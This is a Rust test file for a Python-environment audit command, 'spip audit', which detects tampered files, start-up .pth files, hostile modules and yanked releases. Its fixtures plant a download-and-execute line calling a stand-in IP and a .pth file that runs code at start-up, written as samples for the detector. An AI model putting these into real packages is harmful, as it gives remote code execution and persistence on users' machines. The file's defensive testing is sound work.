//! `spip audit`: what is installed already, and what happened to it since.

use std::fs;
use std::path::PathBuf;

use serde_json::Value;
use spip_tests::index::Offer;
use spip_tests::packages::{self, package};
use spip_tests::pips::Pip;
use spip_tests::run::Outcome;
use spip_tests::world::World;

/// A world whose index offers everything that its environment begins with.
fn world() -> World {
    let world = World::new();
    let pip = packages::real_wheel("pip", &Pip::newest().version);
    world.index.offer(pip);
    world
}

/// A world in which one package was installed by the plain pip.
fn installed() -> World {
    let world = world();
    let wheel = package("quillbarn", "1.4.0")
        .file("quillbarn/inner.py", "VALUE = 1\n")
        .wheel();
    world.index.offer(wheel);
    world.pip(&["install", "quillbarn"]).finish().succeeds();
    world
}

fn audit(world: &World, more: &[&str]) -> Outcome {
    let environment = world.environment.root().display().to_string();
    let mut run = world.spip(&["audit", &environment]);
    for argument in more {
        run = run.arg(argument);
    }
    run.finish()
}

fn place(world: &World, path: &str) -> PathBuf {
    world.environment.packages().join(path)
}

#[test]
fn an_untouched_environment_is_quiet() {
    let world = installed();
    for more in [&[][..], &["--deep"], &["--offline"]] {
        let outcome = audit(&world, more);
        outcome.succeeds().changes_nothing();
        outcome.never_says("unknown[").never_says("record-mismatch");
    }
}

#[test]
fn the_active_environment_is_the_default() {
    let world = installed();
    let outcome = world.spip(&["audit", "--format", "json"]).finish();
    outcome.succeeds();
    let report: Value = serde_json::from_str(&outcome.stdout).expect("a report");
    assert_eq!(report["tool"], "spip audit");
    let packages = report["packages"].as_array().expect("a list");
    let mut names = packages.iter().map(|package| package["name"].clone());
    assert!(names.any(|name| name == "quillbarn"), "{outcome}");
}

#[test]
fn a_changed_file_is_told() {
    let world = installed();
    fs::write(place(&world, "quillbarn/inner.py"), "VALUE = 2\n").expect("it is there");
    let outcome = audit(&world, &[]);
    outcome
        .exits_with(100)
        .prints("high[record-mismatch]: quillbarn 1.4.0");
    outcome.prints("quillbarn/inner.py");
}

#[test]
fn an_added_start_up_file_is_told_and_never_runs() {
    let world = installed();
    let line = world.marker.python("start-up").replace('\n', ";");
    let text = format!("import os; {}", line.trim_end_matches(';'));
    fs::write(place(&world, "helper.pth"), text).expect("it can be written");
    let outcome = audit(&world, &[]);
    outcome.exits_with(100).runs_nothing().changes_nothing();
    outcome
        .prints("[startup-code]: site-packages")
        .prints("helper.pth");
}

#[test]
fn an_added_module_is_read_as_a_whole() {
    let world = installed();
    let code = "import urllib.request\nexec(urllib.request.urlopen('http://192.0.2.1/').read())\n";
    fs::write(place(&world, "quillbarn/ghost.py"), code).expect("it can be written");
    let outcome = audit(&world, &["--offline"]);
    outcome
        .exits_with(100)
        .prints("high[download-execution]: site-packages");
    outcome
        .prints("quillbarn/ghost.py:2")
        .prints("no installed package mentions it");
}

#[test]
fn contents_are_read_when_asked_for() {
    let world = world();
    let hostile = package("quillbarn", "1.4.0").marks(&world.marker);
    let hostile = hostile.hides_its_marks().wheel();
    world.index.offer(hostile);
    world.pip(&["install", "quillbarn"]).finish().succeeds();
    world.marker.clear();
    let shallow = audit(&world, &[]);
    shallow.succeeds().prints("`--deep` reads all");
    let deep = audit(&world, &["--deep"]);
    deep.exits_with(100)
        .prints("[encoded-execution]: quillbarn 1.4.0")
        .runs_nothing();
}

#[test]
fn what_the_index_says_today_is_told() {
    let world = world();
    let wheel = package("quillbarn", "1.4.0").wheel();
    world.index.offer(Offer::of(wheel).yanked("steals secrets"));
    world
        .pip(&["install", "quillbarn==1.4.0"])
        .finish()
        .succeeds();
    let outcome = audit(&world, &[]);
    outcome
        .exits_with(100)
        .prints("medium[yanked-release]: quillbarn 1.4.0");
    outcome.prints("steals secrets");
    audit(&world, &["--offline"])
        .succeeds()
        .prints("no index was asked");
}

#[test]
fn what_the_index_no_longer_offers_is_told() {
    let world = world();
    let wheel = package("quillbarn", "1.4.0").wheel().save(&world.work());
    let wheel = wheel.display().to_string();
    world.pip(&["install", &wheel]).finish().succeeds();
    // As if it had come from the index.
    fs::remove_file(place(&world, "quillbarn-1.4.0.dist-info/direct_url.json"))
        .expect("pip wrote it");
    let outcome = audit(&world, &[]);
    outcome
        .exits_with(100)
        .prints("medium[version-vanished]: quillbarn 1.4.0");
}

#[test]
fn what_does_not_come_from_an_index_is_told() {
    let world = world();
    let project = world.work().join("project");
    package("quillbarn", "1.4.0").lay_out_with_backend(&project);
    let path = project.display().to_string();
    world.pip(&["install", &path]).finish().succeeds();
    world.marker.clear();
    let outcome = audit(&world, &[]);
    outcome
        .succeeds()
        .prints("low[direct-url]: quillbarn 1.4.0 from a directory");
}

#[test]
fn an_index_that_is_out_of_reach_is_told() {
    let world = installed();
    let outcome = audit(&world, &["--index-url", "http://127.0.0.1:9/simple/"]);
    outcome
        .exits_with(101)
        .prints("unknown[")
        .prints("quillbarn 1.4.0 not checked");
}

#[test]
fn a_directory_without_packages_is_no_environment() {
    let world = world();
    let path = world.work().display().to_string();
    let outcome = world.spip(&["audit", &path]).finish();
    outcome.exits_with(102).says("it has no site-packages");
}
